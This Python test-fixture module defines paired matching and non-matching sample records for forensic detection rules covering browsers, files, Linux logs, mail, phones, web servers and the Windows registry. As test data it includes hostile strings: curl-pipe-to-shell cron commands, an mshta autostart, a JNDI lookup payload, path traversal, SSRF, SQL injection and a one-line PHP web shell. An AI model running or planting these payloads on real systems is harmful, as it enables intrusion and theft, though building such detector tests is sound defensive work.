"""Scenes of rules for browsers, files, Linux, web servers, mail, media, telephones and the registry that no other test has."""

from __future__ import annotations

from typing import Any

from scenes import Rows, Scene, event, listed, row, scene
from scenes_frames import bad, shell, sms, term, visit

PARTITION, USERS = "Microsoft-Windows-Partition", "Microsoft-Windows-UserPnp"
PARTY = "+442079460958"
FAILED = {"event": "ssh_login_failed", "host": "h", "address": "192.0.2.9"}


def download(target: str, url: str = "https://host.example/x", **more: Any) -> dict[str, Any]:
    return {"target_path": target, "url": url, "state_name": "complete", **more}


def pages(hit: str, miss: str, artifact: str = "browser.chromium.visit") -> Scene:
    """A scene of addresses."""
    return scene(artifact, visit(hit, "t"), visit(miss, "t"))


def fetched(hit: dict[str, Any], miss: dict[str, Any]) -> Scene:
    return scene("browser.chromium.download", hit, miss)


def files(hit: str, miss: str) -> Scene:
    return scene("file_listing", listed(hit), listed(miss))


def value(artifact: str, hit: dict[str, Any], miss: dict[str, Any]) -> Scene:
    """A scene of values in the registry."""
    return scene(f"windows.registry.{artifact}", hit, miss)


def software(hit: str, miss: str) -> Scene:
    return value("installed_software", {"name": hit}, {"name": miss})


def ran(hit: str, miss: str) -> Scene:
    """A scene of prefetch files."""
    return scene(
        "windows.prefetch", *({"executable": e, "executable_path": "\\V\\T\\" + e, "run_count": 1} for e in (hit, miss))
    )


def requests(count: int, **values: Any) -> Rows:
    """Requests a second apart; `{n}` in a value is the request's number."""
    return [
        row(
            {
                "client": "192.0.2.9",
                **{k: v.replace("{n}", str(n)) if isinstance(v, str) else v for k, v in values.items()},
            },
            requested_at=f"2026-03-02T10:00:{n:02d}Z",
        )
        for n in range(count)
    ]


def asked(hit: dict[str, Any], miss: dict[str, Any]) -> Scene:
    """A scene of single requests."""
    return scene("web.access", requests(1, **hit), requests(1, **miss))


def failures(count: int, artifact_field: dict[str, Any], user: str = "u{n}") -> Rows:
    return [
        row({**artifact_field, "user": user.format(n=n)}, logged_at=f"2026-03-02T10:00:{n:02d}Z") for n in range(count)
    ]


def both_ways(field: str, text: str, other: str = "received", party: str = PARTY) -> Rows:
    return [
        row({field: party, text: "hello", "direction": d}, date=f"2026-03-02T10:0{n}:00Z")
        for n, d in enumerate(("sent", other))
    ]


def two_way(artifact: str, field: str, text: str, party: str = PARTY) -> Scene:
    """A scene of messages both ways, and of two sent."""
    return scene(artifact, both_ways(field, text, party=party), both_ways(field, text, "sent", party=party))


def calls(artifact: str, field: str, length: str, party: str = PARTY, **more: Any) -> Scene:
    return scene(artifact, {field: party, length: 61, **more}, {field: party, length: 0, **more})


def no_calls(artifact: str, field: str, length: str) -> Scene:
    return scene(artifact, {field: PARTY, length: 0}, {field: PARTY, length: 61})


def one_way(artifact: str, field: str, group: str = "") -> Scene:
    hit = {field: PARTY, "direction": "sent"}
    return scene(artifact, hit, {**hit, "direction": "draft"} if not group else {**hit, field: group})


SCENES: dict[str, Scene] = {
    # browsers
    "browser.anonymity": pages("https://www.torproject.org/", "https://www.tor.example/"),
    "browser.cloud_storage_visits": pages("https://www.dropbox.com/home", "https://dropbox.example/home"),
    "browser.place_search": pages("https://www.google.com/maps/dir/Leeds/York", "https://www.google.com/search?q=maps"),
    "browser.upload_page": pages("https://host.example/upload", "https://host.example/upload.png"),
    "browser.webmail": pages("https://mail.google.com/mail/u/0", "https://www.google.com/mail"),
    "browser.upload_reported": scene(
        "browser.chromium.visit",
        visit("https://h.example/", "Upload complete"),
        visit("https://h.example/", "Upload your files"),
    ),
    "browser.wiping_search_page": pages(
        "https://s.example/?q=permanently+delete+files", "https://s.example/?q=delete+column", "browser.firefox.visit"
    ),
    "browser.searches": scene("browser.chromium.search", {"term": "weather"}, {"url": "x"}),
    "browser.wiping_search": scene(
        "browser.chromium.search",
        {"term": "how to wipe a usb stick"},
        row({"term": "how to wipe a usb stick"}, origin="synced"),
    ),
    "browser.credentials": scene("browser.chromium.login", {"username_value": "a"}, {"username_value": ""}),
    "browser.dangerous_download": fetched(
        download("a.exe", danger_type_name="dangerous file"), download("a.exe", danger_type_name="not dangerous")
    ),
    "browser.history_cleared": scene("browser.safari.cleared", {"url": "x"}, row({"url": "x"}, path="")),
    "browser.program_download": fetched(download("/d/a.exe"), download("/d/a.txt")),
    "browser.remote_tool_download": fetched(
        download("/d/AnyDesk.exe"), download("/d/AnyDesk.exe", state_name="interrupted")
    ),
    "browser.sharing_download": fetched(download("/d/a.bin", "https://www.mediafire.com/a"), download("/d/a.bin")),
    "browser.transfer_tool_download": fetched(download("/d/rclone.zip"), download("/d/clone.zip")),
    "browser.wiping_download": fetched(download("/d/SDelete.zip"), download("/d/SDelete.zip", state_name="cancelled")),
    # files
    "list.attack_tool": files("t/mimikatz.exe", "t/mimikatz.txt"),
    "list.container_candidates": files("t/box.kdbx", "root/usr/share/box.kdbx"),
    "list.deleted_intact": scene(
        "file_listing", listed("a.doc", deleted=True, recovery="intact"), listed("a.doc", recovery="intact")
    ),
    "list.deleted_overwritten": scene(
        "file_listing",
        listed("a.doc", deleted=True, recovery="overwritten"),
        listed("a.doc", deleted=True, recovery="intact"),
    ),
    "list.encrypted_archive_member": scene("file_listing", listed("a.zip/b", encrypted=True), listed("a.zip/b")),
    "list.locked_container": scene(
        "container", {"locked": True, "container": "zip"}, {"locked": False, "container": "zip"}
    ),
    "list.ransom_note": files("t/HOW_TO_DECRYPT.txt", "t/how_to_cook.txt"),
    "list.remote_tool": files("t/AnyDesk.exe", "t/AnyDesk.pdf"),
    "list.snapshots": scene("shadow_copy", {"identifier": "x"}, row({"identifier": "x"}, path="")),
    "list.stored_hidden_stream": scene(
        "file_listing", listed("a.txt:b", kind="stream"), listed("a.txt:Zone.Identifier", kind="stream")
    ),
    "list.type_mismatch": scene("file_listing", listed("t/a.txt", type="JPEG"), listed("t/a.jpg", type="JPEG")),
    "list.volumes": scene("volume", {"file_system": "NTFS", "volume": "v"}, {"volume": "v"}),
    "list.wiping_tool": files("t/sdelete64.exe", "t/sdelete64.log"),
    "list.ntfs_stream": scene(
        "file_listing", listed("a:b", stream="b"), listed("a:Zone.Identifier", stream="Zone.Identifier")
    ),
    "list.script_in_upload_folder": files("var/www/uploads/a.php", "var/www/uploads/a.png"),
    "list.copied_onto_volume": scene(
        "file_listing",
        row({"name": "a", "kind": "file", "size": 5}, created="2026-03-02T10:00:00Z", modified="2026-03-01T10:00:00Z"),
        row({"name": "a", "kind": "file", "size": 5}, created="2026-03-02T10:00:00Z", modified="2026-03-03T10:00:00Z"),
    ),
    "ntfs.event_log_removed": scene(
        "windows.ntfs.usn",
        {"name": "Security.evtx", "reasons": "FILE_DELETE"},
        {"name": "Security.evtx", "reasons": "DATA_EXTEND"},
    ),
    "wer.crash": scene("windows.error_report", {"program_path": "C:\\Temp\\a.exe"}, {"program_path": "C:\\app\\a.exe"}),
    # lists
    "lists.known_bad_file": scene("lists.known_bad", bad("a"), row({"known": "good", "list": "l"})),
    "lists.yara_rule_matches": scene("lists.yara_hit", {"rule": "r", "list": "l"}, {"list": "l"}),
    "lists.indicator_of_file": scene(
        "lists.ioc_hit", {"ioc": "x", "matched": "hash", "list": "l"}, {"ioc": "x", "matched": "content", "list": "l"}
    ),
    "lists.indicator_in_content": scene(
        "lists.ioc_hit", {"ioc": "x", "matched": "content", "list": "l"}, {"ioc": "x", "matched": "hash", "list": "l"}
    ),
    "lists.keyword_in_content": scene("lists.keyword_hit", term("a"), {"list": "l"}),
    # Linux
    "linux.account_created": scene(
        "linux.authlog",
        {"event": "account_created", "user": "x", "host": "h", "shell": "/bin/bash"},
        {"event": "account_created", "user": "x", "host": "h", "shell": "/usr/sbin/nologin"},
    ),
    "linux.account_raised": scene(
        "linux.authlog",
        {"event": "group_member_added", "group": "sudo", "user": "x"},
        {"event": "group_member_added", "group": "audio", "user": "x"},
    ),
    "linux.credential_command": scene("linux.history", shell("cat /etc/shadow"), shell("cat /etc/passwd")),
    "linux.cron_entries": scene("linux.crontab", {"kind": "entry"}, {"kind": "environment"}),
    "linux.cron_fetches": scene(
        "linux.crontab",
        {"kind": "entry", "command": "curl -s http://192.0.2.1/a | sh", "user": "root"},
        {"kind": "entry", "command": "curl -o /srv/a https://host.example/a", "user": "root"},
    ),
    "linux.cron_ran_fetch": scene(
        "linux.cron",
        {"event": "cron_command", "command": "curl http://192.0.2.1/a | bash"},
        {"event": "cron_command", "command": "run-parts /etc/cron.hourly"},
    ),
    "linux.crontab_replaced": scene(
        "linux.cron", {"event": "crontab_used", "action": "REPLACE"}, {"event": "crontab_used", "action": "LIST"}
    ),
    "linux.failed_login_records": scene(
        "linux.btmp", failures(10, {"address": "192.0.2.9"}), failures(10, {"address": "0.0.0.0"})
    ),
    "linux.logins": scene(
        "linux.authlog", {"event": "ssh_login_accepted", "user": "a"}, {"event": "ssh_login_failed", "user": "a"}
    ),
    "linux.package_tools": scene(
        "linux.packages",
        {"action": "install", "package": "bleachbit:all"},
        {"action": "remove", "package": "bleachbit:all"},
    ),
    "linux.password_changed": scene(
        "linux.authlog", {"event": "password_changed", "user": "a"}, {"event": "session_opened", "user": "a"}
    ),
    "linux.privilege_use": scene(
        "linux.authlog", {"event": "sudo_command", "user": "a"}, {"event": "sudo_refused", "user": "a"}
    ),
    "linux.ssh_many_accounts": scene("linux.authlog", failures(10, FAILED), failures(10, FAILED, "root")),
    "linux.tool_commands": scene("linux.history", shell("nmap 192.0.2.0/24"), shell("man nmap")),
    "linux.usb_device": scene(
        "linux.devices", {"event": "usb_device_found", "host": "h"}, {"event": "usb_disconnect", "host": "h"}
    ),
    # mail, media, network
    "mail.authentication_passed": scene(
        "mail.message", {"dkim": "pass", "dmarc": "pass"}, {"dkim": "pass", "dmarc": "none"}
    ),
    "mail.draft_with_attachments": scene(
        "mail.message", {"attachment_count": 1, "folder": "Drafts"}, {"attachment_count": 1, "folder": "Sent"}
    ),
    "mail.overview": scene("mail.message", {"subject": "x"}, row({"subject": "x"}, path="")),
    "mail.return_path_differs": scene(
        "mail.message",
        {
            "from": "x@b.example",
            "from_domain": "b.example",
            "return_path": "y@a.example",
            "return_path_domain": "a.example",
        },
        {"return_path_domain": "a.example", "from_domain": "b.example", "dkim": "pass"},
    ),
    "mail.right_to_left_name": scene(
        "mail.message",
        {"attachment_names": ["a\u202egpj.exe"], "from_address": "a"},
        {"attachment_names": ["a.exe"], "from_address": "a"},
    ),
    "mail.unallocated_items": scene("mail.message", row({"subject": "x"}, state="unallocated"), {"subject": "x"}),
    "media.camera_serial": scene("media.exif", {"serial_number": "7", "model": "C"}, {"model": "C"}),
    "media.cameras": scene("media.exif", {"model": "C"}, {"make": "N"}),
    "media.document_authors": scene("document.metadata", {"author": "A"}, {"creator": "A"}),
    "media.edited": scene("media.exif", {"software": "GIMP 2.10"}, {"software": "Ver.1.00"}),
    "media.position_without_time": scene(
        "media.exif",
        {"latitude": 1.0, "longitude": 1.0},
        row({"latitude": 1.0, "longitude": 1.0}, gps_at="2026-03-02T10:00:00Z"),
    ),
    "antivirus.detection": scene("antivirus.clamav", {"threat": "T"}, {"threat": "OK"}),
    "network.cloud_service_log": scene("cloud.azure", {"a": 1}, row({"a": 1}, path="")),
    "network.ids_alert": scene("network.snort_alert", {"alert": "ET SCAN", "signature": 7}, {"classification": "x"}),
    "network.cloud_sync_client": scene("google_drive.item", {"a": 1}, row({"a": 1}, path="")),
    "network.peer_to_peer": scene("torrent.state", {"name": "x"}, {"uploaded": 1}),
    "network.quarantined_downloads": scene("macos.quarantine", {"LSQuarantineAgentName": "Safari"}, {"x": 1}),
    "teamviewer.session": scene(
        "remote.teamviewer_sessions", {"remote_id": "7", "direction": "incoming"}, {"direction": "incoming"}
    ),
    # the registry and programs of Windows
    "inventory.tool": scene(
        "windows.amcache.file", {"LowerCaseLongPath": "c:\\t\\psexec.exe"}, {"LowerCaseLongPath": "c:\\t\\explorer.exe"}
    ),
    "prefetch.anonymity": ran("OPENVPN.EXE", "OPENSSH.EXE"),
    "prefetch.credential_tool": ran("PROCDUMP64.EXE", "PROCEXP64.EXE"),
    "prefetch.log_tool": ran("WEVTUTIL.EXE", "WEVTSVC.EXE"),
    "prefetch.remote_access": ran("ANYDESK.EXE", "DESK.EXE"),
    "prefetch.remote_execution": ran("PSEXESVC.EXE", "PSEXEC.EXE"),
    "prefetch.scanner": ran("NMAP.EXE", "MAP.EXE"),
    "shim.user_writable": scene("windows.shimcache", {"path": "C:\\Temp\\a.exe"}, {"path": "C:\\app\\a.exe"}),
    "reg.bam_remote_access": value(
        "bam", {"path": "\\V\\x\\AnyDesk.exe", "sid": "S"}, {"path": "\\V\\x\\Desk.exe", "sid": "S"}
    ),
    "reg.bam_user_writable": value(
        "bam", {"path": "\\V\\Temp\\a.exe", "sid": "S"}, {"path": "\\V\\Temp\\setup.exe", "sid": "S"}
    ),
    "reg.userassist_tool": value(
        "userassist", {"path": "C:\\t\\sdelete.exe"}, {"path": "C:\\t\\sdelete.exe", "seed_suspected": True}
    ),
    "reg.userassist_user_writable": scene(
        "windows.registry.userassist",
        row({"path": "C:\\Temp\\a.exe"}, last_run="2026-03-02T10:00:00Z"),
        {"path": "C:\\Temp\\a.exe"},
    ),
    "reg.administration_tools_accepted": value(
        "sysinternals", {"tool": "PsExec", "key": "x\\PsExec"}, {"tool": "SDelete", "key": "x\\SDelete"}
    ),
    "reg.autostart_script": value(
        "autostart",
        {"mechanism": "run", "command": "mshta http://192.0.2.1", "name": "x"},
        {"mechanism": "run", "command": "C:\\app\\a.exe", "name": "x"},
    ),
    "reg.cleaner_settings": value("ccleaner", {"key": "x"}, {"value": "x"}),
    "reg.clear_text_logon_secrets": value(
        "setting", {"UseLogonCredential": 1, "key": "x"}, {"UseLogonCredential": 0, "key": "x"}
    ),
    "reg.debugger_hijack": value(
        "autostart",
        {"key": "x\\Image File Execution Options\\sethc.exe", "command": "cmd.exe"},
        {"key": "x\\Run", "command": "cmd.exe"},
    ),
    "reg.defender_exclusion": value("defender_exclusion", {"value": "C:\\T", "kind": "paths"}, {"kind": "paths"}),
    "reg.macros_enabled": value(
        "office_trust", {"content_enabled": True, "path": "a"}, {"content_enabled": False, "path": "a"}
    ),
    "reg.mount_point": value("mount_point", {"remote_path": "\\\\s\\d"}, {"volume": "x"}),
    "reg.other_protection": software("Sophos Endpoint", "Notepad"),
    "reg.program_of_concern_installed": software("CCleaner", "Cleaner"),
    "reg.remote_access_installed": software("AnyDesk", "Desk"),
    "reg.remote_access_service": value("service", {"service": "AnyDesk"}, {"service": "Spooler"}),
    "reg.remote_desktop_client": value("remote_desktop", {"server": "h"}, {"user": "a"}),
    "reg.remote_execution_service": value("service", {"service": "PSEXESVC"}, {"service": "PSched"}),
    "reg.run_mru": value("run_mru", {"text": "cmd"}, {"order": "a"}),
    "reg.search_term": value("search_term", {"term": "x"}, {"position": 1}),
    "reg.service_user_writable": value(
        "service",
        {"service": "x", "image_path": "C:\\Users\\a\\x.exe"},
        {"service": "x", "image_path": "C:\\Windows\\x.exe"},
    ),
    "reg.ssh_host": value("ssh_host", {"host": "h"}, {"key": "x"}),
    "reg.sync_client_autostart": value(
        "autostart",
        {"command": "C:\\x\\Dropbox.exe", "name": "x"},
        {"command": "C:\\x\\OneDriveSetup.exe", "name": "x"},
    ),
    "reg.typed_removable": value("typed_url", {"url": "E:\\x"}, {"url": "C:\\x"}),
    "reg.typed_url": value("typed_url", {"url": "https://host.example"}, {"url": "C:\\x"}),
    "reg.winlogon_changed": value(
        "autostart",
        {"key": "x\\CurrentVersion\\Winlogon", "name": "Shell", "command": "x.exe"},
        {"key": "x\\CurrentVersion\\Winlogon", "name": "Shell", "command": "explorer.exe"},
    ),
    "reg.wiping_tool_accepted": value(
        "sysinternals", {"tool": "SDelete", "key": "x\\SDelete"}, {"tool": "PsExec", "key": "x\\PsExec"}
    ),
    "setupapi.usb_storage": scene(
        "windows.setupapi", {"device": "USBSTOR\\Disk&Ven_X"}, {"device": "USBSTOR\\CdRom&Ven_X"}
    ),
    "jumplist.removable_item": scene(
        "windows.jump_list.automatic",
        {"drive_type": "removable", "local_path": "E:\\a"},
        {"drive_type": "fixed", "local_path": "E:\\a"},
    ),
    "recycle_bin.archives": scene("windows.recycle_bin", {"deleted_path": "C:\\a.zip"}, {"deleted_path": "C:\\a.txt"}),
    "recycle_bin.deleted": scene("windows.recycle_bin", {"deleted_path": "C:\\a", "user_sid": "S"}, {"user_sid": "S"}),
    "task.unusual": scene(
        "windows.scheduled_task",
        {"task_path": "\\x", "command_line": "cscript C:\\app\\a.vbs"},
        {"task_path": "\\Microsoft\\x", "command_line": "cscript C:\\app\\a.vbs"},
    ),
    "bits.command": scene("windows.bits.job", {"command": "C:\\a.exe"}, {"command": ""}),
    "bits.program_fetched": scene(
        "windows.bits.file",
        {"local_name": "C:\\a.exe", "remote_name": "http://192.0.2.1/a.exe"},
        {"local_name": "C:\\a.exe", "remote_name": "http://download.windowsupdate.com/a.exe"},
    ),
    "srum.remote_access_tool": scene(
        "windows.srum.network_usage",
        {"application_name": "anydesk.exe", "bytes_sent": 5},
        {"application_name": "anydesk.exe", "bytes_sent": 0},
    ),
    "srum.transfer_tool": scene(
        "windows.srum.network_usage",
        {"application_name": "rclone.exe", "bytes_sent": 5},
        {"application_name": "rclone.exe", "bytes_sent": 0},
    ),
    "srum.user_writable_sent": scene(
        "windows.srum.network_usage",
        {"application": "\\x\\Temp\\a.exe", "bytes_sent": 5},
        {"application": "\\Windows\\Temp\\a.exe", "bytes_sent": 5},
    ),
    "evtx.partition_arrival": scene(
        "windows.eventlog", event(1006, PARTITION, BusType=7, Capacity=9), event(1006, PARTITION, BusType=7, Capacity=0)
    ),
    "evtx.usb_recognised": scene(
        "windows.eventlog",
        event(20001, USERS, DeviceInstanceID="USBSTOR\\x"),
        event(20001, USERS, DeviceInstanceID="HID\\x"),
    ),
    # web servers
    "web.backup_or_secret_files": scene(
        "web.access", requests(3, path="/{n}/.env", status=404), requests(2, path="/{n}/.env", status=404)
    ),
    "web.data_transfer": asked(
        {"bytes": 200000000, "status": 200, "path": "/a"}, {"bytes": 2000, "status": 200, "path": "/a"}
    ),
    "web.jndi_lookup": asked({"user_agent": "${jndi:ldap://192.0.2.1}"}, {"user_agent": "jndi"}),
    "web.login_guessing": scene(
        "web.access", requests(30, method="POST", path="/login"), requests(29, method="POST", path="/login")
    ),
    "web.odd_methods": scene(
        "web.access",
        [r for m in ("TRACE", "SEARCH", "MOVE", "LOCK") for r in requests(1, method=m, status=405)],
        [r for m in ("TRACE", "SEARCH", "MOVE") for r in requests(1, method=m, status=405)],
    ),
    "web.path_traversal": asked({"request": "GET /?f=../../etc/passwd HTTP/1.1"}, {"request": "GET /a/b HTTP/1.1"}),
    "web.remote_include": asked({"query_decoded": "page=http://192.0.2.1/a.txt"}, {"query_decoded": "page=about.txt"}),
    "web.scanner": scene("web.access", requests(30, path="/{n}", status=404), requests(30, path="/x", status=404)),
    "web.scanner_agent": asked({"user_agent": "sqlmap/1.7"}, {"user_agent": "Mozilla/5.0"}),
    "web.script_source": scene(
        "generic.text",
        row({"text": "<?php system($_GET['cmd']); ?>"}, path="www/a.php"),
        row({"text": "<?php system($_GET['cmd']); ?>"}, path="notes/a.txt"),
    ),
    "web.server_side_request": asked(
        {"query_decoded": "u=http://169.254.169.254/latest"}, {"query_decoded": "u=http://host.example/"}
    ),
    "web.shell_posts": scene(
        "web.access",
        requests(3, method="POST", path="/uploads/a.php", status=200),
        requests(2, method="POST", path="/uploads/a.php", status=200),
    ),
    "web.shell_refused": asked({"path": "/c99.php", "status": 404}, {"path": "/c99.php", "status": 200}),
    "web.sql_injection": asked({"query_decoded": "id=1 UNION SELECT 1"}, {"query_decoded": "id=union"}),
    "web.upload_then_script": scene(
        "web.access",
        [*requests(1, method="POST", path="/upload", status=200), *requests(2, path="/uploads/a.php", status=200)[1:]],
        [*requests(1, method="POST", path="/upload", status=200), *requests(2, path="/uploads/a.png", status=200)[1:]],
    ),
    "web.command_answered": asked(
        {"path": "/a.php", "query": "cmd=whoami", "status": 200, "method": "GET"},
        {"path": "/a.php", "query": "page=whoami", "status": 200, "method": "GET"},
    ),
    "ftp.transfers": scene("logs.vsftpd", {"user": "a", "action": "OK UPLOAD"}, {"user": "a", "action": "OK LOGIN"}),
    # telephones
    "contact.two_way_messages": two_way("ios.sms", "party", "text"),
    "contact.two_way_sms": two_way("android.sms", "address", "body"),
    "contact.two_way_whatsapp": two_way("ios.whatsapp.message", "ZCONTACTJID", "ZTEXT", "442079460958@s.whatsapp.net"),
    "contact.two_way_whatsapp_android": two_way(
        "android.whatsapp.message", "chat_jid", "text_data", "442079460958@s.whatsapp.net"
    ),
    "contact.two_way_whatsapp_old": two_way(
        "android.whatsapp.message", "key_remote_jid", "data", "442079460958@s.whatsapp.net"
    ),
    "contact.one_way_messages": one_way("ios.sms", "party"),
    "contact.one_way_sms": one_way("android.sms", "address"),
    "contact.one_way_whatsapp": one_way("ios.whatsapp.message", "ZCONTACTJID", "1-2@g.us"),
    "contact.one_way_whatsapp_android": one_way("android.whatsapp.message", "chat_jid", "1-2@g.us"),
    "contact.mms": scene("android.mms", {"direction": "sent", "to": PARTY}, {"direction": "draft", "to": PARTY}),
    "contact.answered_calls": calls("ios.call", "ZADDRESS", "ZDURATION"),
    "contact.answered_calls_old": calls("ios.call", "address", "duration"),
    "contact.answered_calls_android": calls("android.call", "number", "duration", direction="incoming"),
    "contact.answered_app_calls": calls("android.whatsapp.call", "party_jid", "duration"),
    "contact.unanswered_calls": no_calls("ios.call", "ZADDRESS", "ZDURATION"),
    "contact.unanswered_calls_old": no_calls("ios.call", "address", "duration"),
    "contact.unanswered_calls_android": no_calls("android.call", "number", "duration"),
    "contact.entries_android": scene(
        "android.contact", {"display_name": "A", "phones": [PARTY]}, {"display_name": "A"}
    ),
    "contact.whatsapp_entries": scene("android.whatsapp.contact", {"display_name": "A"}, {"jid": "x"}),
    "message.deletion_request": scene("android.sms", sms("please delete this chat"), sms("see you at nine")),
    "message.secret_given": scene("android.sms", sms("the password is horse"), sms("I forgot the password")),
    "message.deleted_rows": scene("android.sms", row({"body": "x"}, state="freelist"), {"body": "x"}),
    "message.only_in_log": scene("android.sms", row({"body": "x"}, state="wal_committed"), {"body": "x"}),
    "ios.wifi_joined": scene(
        "ios.wifi_network",
        row({"SSID_name": "x", "BSSList[0].BSSID": "00:11:22:33:44:55"}, JoinedByUserAt="2026-03-02T10:00:00Z"),
        row({"SSID_name": "x"}, JoinedByUserAt="2026-03-02T10:00:00Z"),
    ),
    "ios.wifi_joined_old": scene(
        "ios.wifi_network",
        row({"SSID_STR": "x", "BSSID": "00:11:22:33:44:55"}, lastJoined="2026-03-02T10:00:00Z"),
        row({"SSID_STR": "x", "BSSID": "00:11:22:33:44:55"}, seen="2026-03-02T10:00:00Z"),  # scanned, not joined
    ),
    "ios.wifi_joined_name": scene(
        "ios.wifi_network",
        row({"SSID_name": "x"}, JoinedByUserAt="2026-03-02T10:00:00Z"),
        row({"SSID_name": "x", "BSSID": "00:11:22:33:44:55"}, JoinedByUserAt="2026-03-02T10:00:00Z"),
    ),
    "android.wifi_joined": scene(
        "android.wifi_network", {"SSID": "x", "HasEverConnected": "true"}, {"SSID": "x", "HasEverConnected": "false"}
    ),
    "android.transfer_app": scene(
        "android.package",
        {"name": "com.dropbox.android", "code_path": "/data/app/x"},
        {"name": "com.dropbox.android", "code_path": "/system/app/x"},
    ),
    "android.sideloaded": scene(
        "android.package",
        {"name": "x", "code_path": "/data/app/x"},
        {"name": "x", "code_path": "/data/app/x", "installer": "com.android.vending"},
    ),
    "phone.accounts_android": scene("android.account", {"name": "a"}, {"type": "t"}),
    "phone.accounts_ios": scene("ios.account", {"ZUSERNAME": "a"}, {"account_type": "t"}),
    "phone.usage": scene("android.usage_event", {"package": "x"}, row({"package": "x"}, path="")),
    "phone.notes": scene("ios.note", {"text": "x"}, row({"text": "x"}, path="")),
    "phone.messages_overview": scene("android.sms", {"body": "x"}, row({"body": "x"}, path="")),
    # identity
    "identity.computer_name": value(
        "computer_name", {"computer_name": "H"}, {"computer_name": "H", "is_current": False}
    ),
    "identity.installed_programs": software("X", ""),
    "identity.known_networks": value("network_profile", {"network_name": "n"}, {"guid": "x"}),
    "identity.last_logged_on": value("last_logged_on", {"last_logged_on_user": "a"}, {"sid": "x"}),
    "identity.last_shutdown": scene(
        "windows.registry.shutdown", row({"x": 1}, shutdown_time="2026-03-02T10:00:00Z"), {"x": 1}
    ),
    "identity.linux_accounts": scene(
        "generic.text",
        row({"text": "a:x:1000:1000::/home/a:/bin/bash"}, path="etc/passwd"),
        row({"text": "d:x:1001:1::/:/usr/sbin/nologin"}, path="etc/passwd"),
    ),
    "identity.linux_boots": scene("linux.wtmp", {"type_name": "BOOT_TIME"}, {"type_name": "USER_PROCESS"}),
    "identity.linux_sessions": scene("linux.wtmp", {"event": "login", "user": "a"}, {"event": "logout", "user": "a"}),
    "identity.local_accounts": value("account", {"user_name": "a", "rid": 1001}, {"rid": 1001}),
    "identity.mounted_devices": value(
        "mounted_device", {"drive": "E:", "device_path": "USBSTOR#x"}, {"drive": "C:", "device_path": "SCSI#x"}
    ),
    "identity.network_interfaces": value(
        "network_interface", {"DhcpIPAddress": "192.0.2.9"}, {"DhcpIPAddress": "192.0.2.9", "is_current": False}
    ),
    "identity.time_zone": value("time_zone", {"TimeZoneKeyName": "GMT Standard Time"}, {"Bias": 0}),
    "identity.user_profiles": value(
        "profile", {"sid": "S-1-5-21-1-1001", "user": "a"}, {"sid": "S-1-5-18", "user": "s"}
    ),
    "identity.volume_labels": value("portable_device", {"friendly_name": "STICK", "serial": "7"}, {"serial": "7"}),
    "identity.windows_version": value(
        "windows_version", {"ProductName": "Windows 10 Pro"}, {"ProductName": "Windows 7", "before_upgrade": True}
    ),
}
